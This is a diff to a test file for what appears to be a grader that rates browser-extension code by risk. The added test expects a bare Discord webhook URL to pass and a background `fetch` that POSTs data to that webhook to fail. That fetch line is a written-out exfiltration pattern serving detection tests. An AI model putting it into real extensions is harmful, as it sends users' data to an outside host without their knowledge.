@@ -74,3 +74,10 @@ it('leads a page elsewhere by a call as by a write', async () => {
   expect(await graded({ content: content('window.location.assign(t)') })).toBe('D');
   expect(await graded({ content: content("location.replace('https://x.example/' + t)") })).toMatch(/^A/);
 });
+
+it('takes the example of a chat hook for none, and the one that is made of it for what it is', async () => {
+  const hook = "'https://discord.com/api/webhooks/YOUR_ID/YOUR_TOKEN'";
+  expect(await graded({ popup: `document.getElementById('b').title = ${hook};` })).toMatch(/^A/);
+  const asks = `fetch(${hook}.replace('YOUR_ID', '1234567890').replace('YOUR_TOKEN', self.name), { method: 'POST', body: t });`;
+  expect(await graded({ background: ASKED(asks) })).toBe('F');
+});
